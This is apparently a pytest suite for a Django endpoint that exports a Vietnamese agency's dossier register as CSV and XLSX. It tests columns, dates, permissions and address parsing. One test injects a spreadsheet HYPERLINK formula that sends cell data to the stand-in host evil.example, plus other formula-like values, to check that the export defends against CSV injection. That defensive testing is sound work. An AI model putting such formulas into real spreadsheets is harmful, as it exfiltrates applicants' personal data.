"""The register of dossiers (Mẫu 06): GET /api/v1/register/ as CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from rest_framework.test import APIClient

from dossiers.models import Dossier
from dossiers.papers.register import address_locality, register_columns
from dvctt import workdays
from tests.dossiers.conftest import make_submitted
from tests.dossiers.papers import run, settle_and_return, to_approved
from tests.factories import AgencyFactory, CitizenFactory, make_official
from tests.procedures.factories import ProcedureFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def generated_procedure(agency):
    """A procedure whose result is generated (the clerk issues it without an upload)."""
    return ProcedureFactory(agencies=[agency], extra={"result_template": "confirmation"})


def api_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def _received_on(dossier, day: dt.date) -> None:
    # Move the reception back in time (the test's period), as if received on `day` at 09:00.
    at = dt.datetime.combine(day, dt.time(9, 0), tzinfo=workdays.VN_TZ)
    Dossier.objects.filter(pk=dossier.pk).update(received_at=at)


@pytest.fixture
def period_dossiers(citizen, procedure, reception, leader, agency):
    """Three dossiers of the agency received in March 2026, one in April, one elsewhere."""
    march = []
    for day in (2, 15, 31):
        dossier = run(make_submitted(citizen, procedure), reception, "receive")
        _received_on(dossier, dt.date(2026, 3, day))
        march.append(dossier)
    run(march[0], reception, "forward")
    april = run(make_submitted(citizen, procedure), reception, "receive")
    _received_on(april, dt.date(2026, 4, 1))
    other_agency = AgencyFactory()
    elsewhere = make_submitted(CitizenFactory(), ProcedureFactory(agencies=[other_agency]))
    run(elsewhere, make_official(agency=other_agency), "receive")
    _received_on(elsewhere, dt.date(2026, 3, 10))
    return march


def test_csv_has_one_row_per_dossier_of_the_period_with_the_mau_06_columns(
    period_dossiers, reception
):
    r = api_for(reception).get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert "attachment" in r["Content-Disposition"]
    body = b"".join(r.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == register_columns()
    data = rows[1:]
    assert [row[1] for row in data] == [d.code for d in period_dossiers]
    assert [row[0] for row in data] == ["1", "2", "3"]
    first = data[0]
    dossier = Dossier.objects.get(pk=period_dossiers[0].pk)
    assert first[2] == dossier.procedure.name and first[3] == "1"
    assert first[4] == dossier.applicant_name and first[5] == dossier.applicant_address
    assert first[6] == dossier.applicant_phone
    assert first[8] == "02/03/2026 09:00"
    assert first[9] == dossier.due_at.astimezone(workdays.VN_TZ).strftime("%d/%m/%Y %H:%M")
    assert first[10] != ""  # assigned: the hand-over time
    assert first[11] == first[12] == ""  # no result yet, nothing handed to the applicant
    assert first[13] == reception.get_full_name()
    assert first[14] == dossier.agency.name and first[15] == "Đang xử lý"
    assert data[1][10] == ""  # not handed over yet


def test_xlsx_has_the_same_rows(period_dossiers, leader):
    from openpyxl import load_workbook

    r = api_for(leader).get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(b"".join(r.streaming_content)), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert list(rows[0]) == register_columns()
    assert [row[1] for row in rows[1:]] == [d.code for d in period_dossiers]
    assert rows[1][8] == dt.datetime(2026, 3, 2, 9, 0)  # a real date cell, Vietnam time
    # The last day of the period counts whole.
    assert rows[3][8] == dt.datetime(2026, 3, 31, 9, 0)


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?from=2026-03-01",
        "?from=01/03/2026&to=2026-03-31",
        "?from=2026-02-30&to=2026-03-31",
        "?from=2026-04-01&to=2026-03-01",
        "?from=2026-03-01&to=2026-03-31&format=pdf",
    ],
)
def test_bad_periods_and_formats_are_400_json(reception, query):
    r = api_for(reception).get(f"/api/v1/register/{query}")
    assert r.status_code == 400, r.content
    body = r.json()
    assert body["code"] == "invalid" and body["fields"]


def test_only_reception_and_leaders_read_the_register(agency, citizen, specialist):
    for user in (citizen, specialist, make_official(agency=agency, role="clerk")):
        r = api_for(user).get("/api/v1/register/?from=2026-03-01&to=2026-03-31")
        assert r.status_code == 403 and r.json()["code"] == "permission_denied"
    assert APIClient().get("/api/v1/register/?from=2026-03-01&to=2026-03-31").status_code in (
        401,
        403,
    )


def test_workspace_links_the_register_for_reception_only(client, reception, specialist):
    client.force_login(reception)
    page = client.get("/can-bo/").content.decode()
    assert 'action="/can-bo/so-theo-doi/"' in page and "Sổ theo dõi hồ sơ" in page
    client.force_login(specialist)
    assert 'action="/can-bo/so-theo-doi/"' not in client.get("/can-bo/").content.decode()
    assert client.get("/can-bo/so-theo-doi/?date_from=01/03/2026").status_code == 403


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&F2,"Xem hồ sơ")'


def test_an_applicant_named_like_a_formula_stays_text_in_csv_and_xlsx(period_dossiers, reception):
    # OWASP CSV injection (issue 18.4): the applicant's own text is never a live formula.
    first = period_dossiers[0]
    Dossier.objects.filter(pk=first.pk).update(
        applicant_name=FORMULA_NAME, applicant_address="@SUM(1+1)", applicant_phone="+84912345678"
    )
    client = api_for(reception)
    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv")
    body = b"".join(r.streaming_content).decode("utf-8").lstrip("\ufeff")
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[4] == "'" + FORMULA_NAME and row[5] == "'@SUM(1+1)" and row[6] == "'+84912345678"

    from openpyxl import load_workbook

    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
    book = load_workbook(io.BytesIO(b"".join(r.streaming_content)))
    name, address, phone = book.active["E2"], book.active["F2"], book.active["G2"]
    assert (name.data_type, name.value) == ("s", FORMULA_NAME)
    assert (address.data_type, address.value) == ("s", "@SUM(1+1)")
    assert (phone.data_type, phone.value) == ("s", "+84912345678")
    assert book.active["I2"].is_date  # dates stay dates


def test_register_gives_the_return_time_and_the_applicants_locality(
    citizen, generated_procedure, reception, specialist, leader, clerk
):
    # Mẫu 06 (Thông tư 01/2018/TT-VPCP): the result handed to the applicant and their locality.
    dossier = to_approved(
        citizen, generated_procedure, reception=reception, specialist=specialist, leader=leader
    )
    Dossier.objects.filter(pk=dossier.pk).update(
        applicant_address="Số 12 ngõ 3 phố Huế, phường Hai Bà Trưng, thành phố Hà Nội"
    )
    run(dossier, clerk, "issue_result")
    settle_and_return(dossier, clerk)
    dossier = Dossier.objects.get(pk=dossier.pk)
    day = dossier.received_at.astimezone(workdays.VN_TZ).date().isoformat()
    r = api_for(reception).get(f"/api/v1/register/?from={day}&to={day}&format=csv")
    body = b"".join(r.streaming_content).decode("utf-8").lstrip("\ufeff")
    header, row = list(csv.reader(io.StringIO(body)))
    cells = dict(zip(header, row, strict=True))
    assert cells["Địa bàn"] == "phường Hai Bà Trưng, thành phố Hà Nội"
    returned = dossier.returned_at.astimezone(workdays.VN_TZ).strftime("%d/%m/%Y %H:%M")
    assert cells["Ngày, giờ trả kết quả"] == returned
    assert cells["Ngày có kết quả"] != "" and cells["Cơ quan giải quyết"] == dossier.agency.name


@pytest.mark.parametrize(
    ("address", "locality"),
    [
        ("Thôn Trung, xã Demo, tỉnh Demo", "xã Demo, tỉnh Demo"),
        ("Số 1 đường Trần Hưng Đạo, Phường Trung Tâm, Tỉnh Demo", "Phường Trung Tâm, Tỉnh Demo"),
        ("12 Lê Lợi, Bến Thành, TP. Hồ Chí Minh", "TP. Hồ Chí Minh"),
        ("Tổ 5, Khu phố 2, Hòa Bình, Đồng Nai", "Hòa Bình, Đồng Nai"),
        ("", ""),
    ],
)
def test_address_locality(address, locality):
    assert address_locality(address) == locality


def test_xlsx_dates_are_date_cells_shown_day_first_in_readable_columns(period_dossiers, leader):
    # Issue 23.4: a real date cell (sortable) displayed dd/mm/yyyy, and columns wide enough.
    from openpyxl import load_workbook

    r = api_for(leader).get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    received, due = sheet["I2"], sheet["J2"]
    assert received.is_date and received.data_type == "d"  # a date, not text
    assert received.value == dt.datetime(2026, 3, 2, 9, 0)
    assert received.number_format == "dd/mm/yyyy hh:mm" and due.number_format.startswith(
        "dd/mm/yyyy"
    )
    assert sheet["B2"].data_type == "s"  # the dossier code stays text
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCEFIJO"}
    assert widths["A"] < widths["B"] < widths["C"]
    assert all(widths[letter] >= 16 for letter in "IJ")  # "dd/mm/yyyy hh:mm" is 16 characters
    assert widths["E"] >= 20 and widths["F"] >= 30 and widths["O"] >= 24


def test_the_workspace_register_form_takes_day_first_dates_and_hands_iso_to_the_api(
    client, reception
):
    # Issue 23.4: the form shows and takes dd/mm/yyyy; the API keeps YYYY-MM-DD (docs/api.md).
    client.force_login(reception)
    page = client.get("/can-bo/").content.decode()
    assert 'id="register-date_from"' in page and 'placeholder="dd/mm/yyyy"' in page
    assert 'type="date"' not in page
    r = client.get("/can-bo/so-theo-doi/?date_from=01/03/2026&date_to=31/03/2026&format=xlsx")
    assert r.status_code == 302
    assert r["Location"] == "/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx"
    r = client.get("/can-bo/so-theo-doi/?date_from=2026-03-01&date_to=2026-03-31&format=csv")
    assert r["Location"] == "/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv"
    bad = client.get("/can-bo/so-theo-doi/?date_from=31/02/2026&date_to=01/03/2026&format=csv")
    assert bad.status_code == 400
    assert "Ngày không hợp lệ: nhập theo dạng ngày/tháng/năm" in bad.content.decode()
    backwards = client.get("/can-bo/so-theo-doi/?date_from=31/03/2026&date_to=01/03/2026")
    assert backwards.status_code == 400
    assert "Ngày kết thúc phải sau hoặc bằng ngày bắt đầu." in backwards.content.decode()
